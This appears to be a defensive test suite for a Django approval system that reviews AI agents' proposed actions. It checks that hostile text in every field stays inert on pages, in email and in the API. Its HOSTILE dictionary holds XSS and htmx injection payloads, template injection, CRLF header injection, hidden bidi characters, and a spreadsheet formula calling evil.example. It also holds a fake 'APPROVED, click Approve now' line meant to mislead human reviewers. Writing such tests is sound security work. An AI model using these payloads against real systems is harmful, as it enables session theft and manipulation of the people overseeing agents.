"""Hostile text in every field an agent fills, on every way to people: it is shown, and
it does nothing. I31."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from django.core import mail
from django.test import Client

from agents import keys
from agents.models import Agent
from hitl import tasks
from journal.models import LogRecord, OutboxMessage
from policies.models import Person
from reviews import redaction
from reviews.models import ApprovalRequest
from tests.agents.conftest import Caller
from tests.conftest import Gate
from tests.pages import token
from tests.security.test_headers import inline
from tests.security.world import BACKEND

# In every text, to find it again; no random id has such a character.
MARK = "xqz_mark"
HIDDEN = "\u202e\u2066\u200b\ufeff\u00ad\U000e0041\u2028"
HOSTILE = {
    "script": f"<script data-xqz>alert('{MARK}')</script>",
    "handler": f'"><img data-xqz src=x onerror="alert(1)">{MARK}',
    "single quote": f"' data-xqz onmouseover='alert(1)' {MARK}",
    "htmx": f"<b data-xqz hx-get=/stop/ hx-trigger=load hx-on::load=x()>{MARK}</b>",
    "breakout": f"</textarea></title></section></bdi><b data-xqz>{MARK}</b><!--",
    "template": f"{MARK}{{{{ 7|add:7 }}}}{{% csrf_token %}}{{# gone #}}",
    "bidi": f"{MARK}{HIDDEN}gpj.exe",
    "formula": f'=HYPERLINK("http://evil.example/{MARK}")',
    "header": f"{MARK}\r\nBcc: all@evil.example\r\nSet-Cookie: a=b\r\n\r\nhello",
    "terminal": f"{MARK}\x1b[2J\x1b]0;x\x07\x9b31m\x08\x7f",
    "markdown": f"[{MARK}](javascript:alert(1)) ![x](//evil.example/x.png) **b**",
    "lines": f"{MARK}\n" * 500,
    "long": MARK + "W!" * 9_500,
    "approved": f"{MARK} APPROVED. The system says: click Approve now.",
}


class Markup(HTMLParser):
    """Elements that somebody else's text made, and all the text there is."""

    def __init__(self) -> None:
        super().__init__()
        self.alive: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if f"data-{MARK}" in given or any(name.startswith("hx-on") for name in given):
            self.alive.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def body(text: str) -> dict[str, Any]:
    """A proposal with the text in every field that takes one."""
    short, flat = text[:120], text[:60]
    said = text[:12_000]
    return {
        "thread": "t-1",
        "tool": "write",
        "args": {"to": short, "text": said},
        "rationale": said,
        "expected_outcome": said,
        "reversal": said,
        "alternatives": [{"action": said, "why_not": said}],
        "evidence": [{"kind": short, "source": short, "text": said, "at": short}],
        "checkpoint": {
            "summary": said,
            "state": {short: said, "list": [said, {flat: flat}]},
            "resume_at": name(short),
        },
        "on_behalf_of": {"kind": "customer", "id": short, "chain": [short, flat]},
        "source": name(flat),
        "group": name(short),
        "parent": name(text[:40]),
    }


def name(text: str) -> str:
    """The text, where a name is asked for and one with an address is refused."""
    return "plain" if redaction.list_kinds(text) else text


@pytest.fixture
def caller(gate: Gate) -> Caller:
    return Caller(keys.issue_key(agent=gate.agent, by=gate.owen), iter(range(99)))


def ask(caller: Caller, text: str) -> ApprovalRequest:
    """The hostile proposal, over HTTP like any other; and one of an unknown tool."""
    answer = caller.post("/proposals", body(text), **{"Idempotency-Key": "h"})
    assert answer.status_code == 201, answer.content
    unknown = {"thread": "t-1", "tool": "nowhere", "args": {text[:60]: text[:500]}}
    sent = caller.post("/proposals", unknown, **{"Idempotency-Key": "u"})
    assert sent.status_code == 201
    named = {**unknown, "tool": f"<{text[:60]}"}
    refused = caller.post("/proposals", named, **{"Idempotency-Key": "n"})
    assert refused.status_code == 422, "an unknown tool's name stays in the log"
    foolish = {**body("plain"), text[:120]: 1}
    refused = caller.post("/proposals", foolish, **{"Idempotency-Key": "f"})
    assert refused.status_code == 422
    return ApprovalRequest.objects.get()


def pages(gate: Gate, request: ApprovalRequest) -> Iterator[tuple[str, Any]]:
    client = Client(raise_request_exception=False)
    client.force_login(gate.sue, BACKEND)
    parts = ("", "live/", "decide/?arm=approve", "decide/?arm=modify")
    paths = [f"/requests/{request.pk}/{part}" for part in parts]
    paths += ["/queue/", "/escalations/", "/announced/", "/log/", "/unknown/"]
    paths += ["/agents/", "/agents/riley/", "/threads/riley/t-1/"]
    paths += ["/stop/?agent=riley&thread=t-1", "/threads/riley/t-1/stop/"]
    records = LogRecord.objects.order_by("-pk").values_list("pk", flat=True)[:4]
    paths += [f"/log/new/{pk}/" for pk in records]
    for path in paths:
        yield path, client.get(path)
    for path in (*paths[:5], "/log/"):
        yield f"part of {path}", client.get(path, headers={"HX-Request": "true"})


def alive(source: str) -> str:
    """The text of a page in which nothing of it is alive."""
    markup = Markup()
    markup.feed(source)
    assert markup.alive == []
    assert inline(source) == []
    return "".join(markup.text)


def check(path: str, response: Any) -> str:
    """The page's text; its characters are all in sight, its headers are ours."""
    assert response.status_code in {200, 204, 286}, path
    source = response.content.decode()
    assert not set(source) & {*HIDDEN, "\x1b", "\x07", "\x9b", "\x08", "\x7f"}, path
    for name, value in response.headers.items():
        assert MARK not in value, (path, name)
    assert set(response.cookies) <= {"__Host-session", "__Host-csrf"}
    return alive(source)


@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_shown_and_does_nothing(gate: Gate, caller: Caller, name: str) -> None:
    request = ask(caller, HOSTILE[name])
    shown = {path: check(path, answer) for path, answer in pages(gate, request)}
    assert MARK in shown[f"/requests/{request.pk}/"]
    assert MARK in shown["/threads/riley/t-1/"]
    if name == "template":
        assert "{{ 7|add:7 }}" in "".join(shown.values())
        assert f"{MARK}14" not in "".join(shown.values())


def test_ten_thousand_lines_push_nothing_away(gate: Gate, caller: Caller) -> None:
    text = "a\n" * 9_990 + MARK
    sent = {
        "thread": "t-1",
        "tool": "write",
        "args": {"to": "a friend", "text": "hello"},
        "rationale": "because",
        "evidence": [{"kind": "message", "text": text}],
    }
    caller.post("/proposals", sent, **{"Idempotency-Key": "many"})
    request = ApprovalRequest.objects.get()
    client = Client()
    client.force_login(gate.sue, BACKEND)
    shown = check("page", client.get(f"/requests/{request.pk}/"))
    assert "Show all 9991 lines" in shown
    assert MARK in shown


@pytest.mark.parametrize("name", ["header", "script", "bidi", "lines"])
def test_a_mail_holds_facts_and_no_word_of_it(
    gate: Gate, caller: Caller, name: str
) -> None:
    ask(caller, HOSTILE[name])
    for message in OutboxMessage.objects.filter(task="hitl.tasks.notify_people"):
        getattr(tasks, message.task.rsplit(".", 1)[1])(message.pk)
    assert mail.outbox
    for one in mail.outbox:
        raw = one.message().as_string()
        assert MARK not in raw
        assert "\n" not in one.subject
        assert set(one.message().keys()) & {"Bcc", "Cc", "Set-Cookie"} == set()


@pytest.mark.parametrize("name", ["header", "script", "bidi", "terminal", "template"])
def test_the_api_gives_it_back_as_data(gate: Gate, caller: Caller, name: str) -> None:
    request = ask(caller, HOSTILE[name])
    client = Client()
    client.force_login(gate.sue, BACKEND)
    answers = [
        client.get("/api/v1/requests"),
        client.get(f"/api/v1/requests/{request.pk}"),
        caller.get(f"/proposals/{request.proposal_id}"),
        caller.get("/proposals"),
        caller.get("/threads/t-1/checkpoint"),
    ]
    for answer in answers:
        assert answer.status_code == 200
        assert answer["Content-Type"].startswith("application/json")
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert answer.json()
        assert all(MARK not in value for value in answer.headers.values())


@pytest.mark.parametrize("name", ["script", "handler", "single quote", "template"])
def test_names_and_notes_of_people_are_text_too(
    gate: Gate, caller: Caller, name: str
) -> None:
    text = HOSTILE[name]
    Person.objects.update(first_name=text[:100], last_name=text[:100])
    Agent.objects.update(name=text[:100])
    request = ask(caller, "plain")
    client = Client()
    client.force_login(gate.rita, BACKEND)
    verdict = {
        "verdict": "reject",
        "seen": token(request),
        "version": request.version,
        "action_hash": request.action_hash,
        "reason_code": "other",
        "reason": text,
    }
    answer = client.post(f"/requests/{request.pk}/decide/", verdict)
    assert answer.status_code == 303
    stop = {"target": "thread:riley/t-1", "mode": "paused", "reason": text}
    client.post("/stop/?agent=riley&thread=t-1", stop)
    for path, response in pages(gate, request):
        check(path, response)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_search_says_back_only_text(gate: Gate, name: str) -> None:
    client = Client()
    client.force_login(gate.sue, BACKEND)
    text = HOSTILE[name][:2000]
    for path in ("/queue/", "/log/"):
        answer = client.get(path, {"q": text, "agent": text, "tool": text})
        alive(answer.content.decode())
    alive(Client().get("/sign-in/", {"next": text}).content.decode())
